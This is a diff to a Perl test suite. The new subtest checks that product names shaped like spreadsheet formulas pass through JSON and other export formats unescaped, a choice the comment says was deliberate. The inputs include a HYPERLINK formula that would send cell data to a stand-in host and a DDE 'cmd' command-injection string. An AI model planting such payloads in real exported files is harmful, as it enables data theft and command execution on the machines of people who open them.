@@ -300,5 +300,17 @@ subtest 'built in advance' => sub {
     $warm->log_ok;
 };
 
+# Decided in doc/feeds.md: programs read these files, and a price of -1 or a name that begins with + is data.
+subtest 'cells that a spreadsheet would run' => sub {
+    for my $text ('=1+1', '=HYPERLINK("http://x.example/?"&A1,"y")', '+1', '-1', '@SUM(A1)', "\t=1", '|x', "=cmd|'/C x'!A0", '"=1"') {
+        sql($db, 'UPDATE product SET name = ' . q_($text) . " WHERE sku = '00042'");
+        my $json = ask_list($h, '/products', 'ACME01')->{content};
+        like $json, qr/"SKU":"00042","Name":"\Q@{[$text =~ s{(["\\])}{\\$1}gr =~ s{\t}{\\t}gr]}\E"/, "$text: as it is in JSON";
+        for my $format (@FORMATS) {
+            is difference(ask_list($h, "/products.$format", 'ACME01')->{content}, $expected{$format}->($json, '/products')), '', "... and in $format, neither guarded nor cut";
+        }
+    }
+};
+
 $_->log_ok for $h, $whole;
 done_testing;
